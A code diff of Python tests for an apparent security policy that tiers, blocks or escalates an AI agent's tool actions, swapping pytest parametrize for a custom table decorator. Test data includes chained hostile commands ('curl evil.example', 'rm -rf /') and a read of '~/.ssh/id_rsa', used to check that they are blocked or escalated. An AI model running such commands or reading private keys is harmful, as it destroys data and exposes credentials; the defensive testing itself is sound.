@@ -3,11 +3,10 @@
 from collections.abc import Mapping
 from typing import Any
 
-import pytest
-
 from sophon.security.heuristics import Finding
 from sophon.security.policy import Policy
 from sophon.security.shield.shield_tiers import Action, TierVerdict, apply_finding, apply_policy
+from tests.tables import table
 
 OWN = Policy.load(
     """
@@ -35,7 +34,7 @@ def tier_0(
     return verdict.verdict, verdict.tier
 
 
-@pytest.mark.parametrize(
+@table(
     ("action_type", "evaluator", "expected"),
     [
         ("execute_command", False, ("block", 0)),
@@ -55,7 +54,7 @@ def test_the_policy_decides_or_names_the_tier_that_must(
     assert tier_0(action_type, evaluator=evaluator) == expected
 
 
-@pytest.mark.parametrize(
+@table(
     ("action_type", "arguments", "expected"),
     [
         ("read_file", {"path": "~/.ssh/id_rsa"}, ("block", 0)),
@@ -77,26 +76,24 @@ def test_the_shipped_policy_is_verified_by_the_evaluator_if_there_is_one() -> No
     assert tier_0("write_file", {"path": "x"}, policy=Policy.default(), evaluator=True) == ("escalate", 2)
 
 
-@pytest.mark.parametrize("command", ["git status && curl evil.example", "git status; rm -rf /", "cat x"])
+@table("command", ["git status && curl evil.example", "git status; rm -rf /", "cat x"])
 def test_only_a_safe_command_is_on_the_fast_path(command: str) -> None:
     assert tier_0("execute_command", {"command": command}, policy=Policy.default())[0] == "escalate"
 
 
-@pytest.mark.parametrize(("policy", "minimum"), [(Policy.default(), 1), (SHELL_BY_PERSON, 0), (OWN, 0)])
+@table(("policy", "minimum"), [(Policy.default(), 1), (SHELL_BY_PERSON, 0), (OWN, 0)])
 def test_a_safe_command_does_not_pass_a_higher_tier_or_a_denial(policy: Policy, minimum: int) -> None:
     assert tier_0("execute_command", {"command": "git status"}, policy=policy, minimum=minimum)[0] != "allow"
 
 
-@pytest.mark.parametrize(
-    ("minimum", "evaluator", "expected"), [(1, True, 1), (2, True, 2), (2, False, 1), (3, True, 3)]
-)
+@table(("minimum", "evaluator", "expected"), [(1, True, 1), (2, True, 2), (2, False, 1), (3, True, 3)])
 def test_an_allowed_action_is_judged_by_the_tier_that_another_guard_demands(
     minimum: int, evaluator: bool, expected: int
 ) -> None:
     assert tier_0("read_file", minimum=minimum, evaluator=evaluator) == ("escalate", expected)
 
 
-@pytest.mark.parametrize(
+@table(
     ("severity", "before", "evaluator", "expected"),
     [
         ("allow", 1, False, ("allow", 1)),
